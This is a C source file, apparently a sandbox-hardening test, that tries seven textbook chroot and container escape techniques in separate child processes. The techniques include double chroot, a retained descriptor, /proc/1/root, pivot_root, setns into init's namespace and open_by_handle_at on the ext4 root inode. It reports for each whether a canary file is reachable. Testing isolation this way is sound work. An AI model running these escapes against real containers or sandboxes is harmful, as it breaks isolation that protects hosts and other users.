/* SPDX-License-Identifier: Apache-2.0 */

/*
 * The ways out of a root directory that are in every textbook. Each is tried in a process of its
 * own; "NAME escaped" is printed if the host file of the argument is in reach after it, "NAME
 * stayed" if not.
 */

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *canary;

static int in_reach(void)
{
    return access(canary, F_OK) == 0;
}

static void up(void)
{
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return;
    if (chroot(".") < 0)
        return;
}

static void by_double_chroot(void)
{
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") == 0)
        up();
}

static void by_descriptor(void)
{
    int root = open("/", O_RDONLY | O_DIRECTORY);

    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") == 0 && fchdir(root) == 0)
        up();
}

static void by_init(void)
{
    if (chdir("/proc/1/root") == 0 || chdir("/proc/1/cwd") == 0)
        up();
}

static void by_unmounting_the_root(void)
{
    umount2("/", MNT_DETACH);
    if (chdir("/") == 0)
        up();
}

static void by_pivoting_back(void)
{
    mkdir("/tmp/old", 0700);
    if (mount("/tmp", "/tmp", NULL, MS_BIND, NULL) == 0 && chdir("/tmp") == 0)
        syscall(SYS_pivot_root, ".", "old");
    up();
}

static void by_namespace_of_init(void)
{
    int fd = open("/proc/1/ns/mnt", O_RDONLY);

    if (fd >= 0)
        setns(fd, CLONE_NEWNS);
    up();
}

static void by_file_handle(void)
{
    struct {
        struct file_handle header;
        unsigned char bytes[128];
    } handle;
    int root = open("/", O_RDONLY | O_DIRECTORY);
    int mount_id;
    int found;

    memset(&handle, 0, sizeof(handle));
    handle.header.handle_bytes = sizeof(handle.bytes);
    if (name_to_handle_at(AT_FDCWD, "/", &handle.header, &mount_id, 0) < 0)
        return;
    /* Inode 2 is the root of ext4; the generation there is 0. */
    memset(handle.bytes, 0, sizeof(handle.bytes));
    handle.bytes[0] = 2;
    found = open_by_handle_at(root, &handle.header, O_RDONLY | O_DIRECTORY);
    if (found >= 0 && fchdir(found) == 0)
        up();
}

static const struct {
    const char *name;
    void (*run)(void);
} ways[] = {
    {"double-chroot", by_double_chroot},
    {"descriptor", by_descriptor},
    {"init", by_init},
    {"unmount", by_unmounting_the_root},
    {"pivot", by_pivoting_back},
    {"setns", by_namespace_of_init},
    {"handle", by_file_handle},
};

int main(int argc, char **argv)
{
    canary = argc > 1 ? argv[1] : "/";
    for (unsigned int i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
        pid_t child = fork();

        if (child == 0) {
            if (unshare(CLONE_NEWNS) == 0)
                mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
            ways[i].run();
            printf("%s %s\n", ways[i].name, in_reach() ? "escaped" : "stayed");
            fflush(stdout);
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
    return 0;
}
